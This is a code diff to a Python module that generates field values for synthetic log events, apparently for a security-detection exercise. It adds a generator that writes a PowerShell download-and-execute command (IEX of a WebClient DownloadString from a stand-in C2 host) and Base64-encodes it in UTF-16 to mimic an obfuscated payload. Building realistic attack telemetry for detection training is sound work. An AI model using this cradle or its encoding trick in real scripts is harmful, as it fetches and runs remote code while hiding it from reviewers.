@@ -1,10 +1,11 @@
 """What fills the slots of events: numbers, identifiers, hashes, and the pools of everyday texts.
 
-Variety matters more than truth here. A real estate's columns hold many distinct values, some everywhere and most seldom;
-so a pool is drawn from as words are, the first entries far more often than the last, and entries have slots of their
+Variety matters more than truth here. A real estate's columns hold many distinct values, some everywhere and most
+seldom; so a pool is drawn from as words are, the first entries far more often than the last, and entries have slots of their
 own for the parts that differ each time (versions, temporary names, GUIDs).
 """
 
+from base64 import b64encode
 from collections.abc import Mapping
 from functools import cache, lru_cache, partial
 from hashlib import blake2b
@@ -22,7 +23,8 @@ _POPULARITY = 2.2
 
 def load_yaml(*names: str) -> Any:
     """One of the exercise's data files, by its path inside this package."""
-    return yaml.load(files(__package__).joinpath(*names).read_text("utf-8"), Loader=_LOADER)
+    text = files(__package__).joinpath(*names).read_text("utf-8")
+    return yaml.load(text, Loader=_LOADER)  # noqa: S506 - a safe loader, in C where PyYAML has it
 
 
 _LOADER = getattr(yaml, "CSafeLoader", yaml.SafeLoader)
@@ -78,9 +80,17 @@ def _computed() -> dict[str, Generator]:
         "hashes": lambda values, tag: program_hashes(tag, values["build"]),
         "sha256": lambda values, tag: sha256_of(tag, values["build"]),
         "outside_ip": _outside_ip,
+        "encoded": _encoded,
+        "default": lambda _values, _tag: "{default}",
         "day": lambda values, _tag: f"{1 + int(values.random.random() * 28):02d}",
         "month": lambda values, _tag: f"{1 + int(values.random.random() * 12):02d}",
     }
+
+
+def _encoded(values: Values, _tag: str) -> str:
+    """A PowerShell command in the form that hides it from readers: UTF-16 in Base64."""
+    command = f"IEX ((New-Object Net.WebClient).DownloadString('https://{values['c2']}/{_word(5, values, '')}'))"
+    return b64encode(command.encode("utf-16-le")).decode()
 
 
 def guid(bits: int) -> str:
@@ -104,7 +114,8 @@ def _process_guid(values: Values, _tag: str) -> str:
 def _outside_ip(values: Values, _tag: str) -> str:
     """An address on the internet, drawn from blocks that large content and cloud networks use."""
     block = ("13.107", "20.190", "52.98", "104.18", "142.250", "151.101", "185.199", "23.55", "40.126", "18.134")
-    return f"{block[int(values.random.random() * len(block))]}.{values.random.getrandbits(8)}.{values.random.getrandbits(8)}"
+    one = block[int(values.random.random() * len(block))]
+    return f"{one}.{values.random.getrandbits(8)}.{values.random.getrandbits(8)}"
 
 
 @lru_cache(maxsize=20_000)
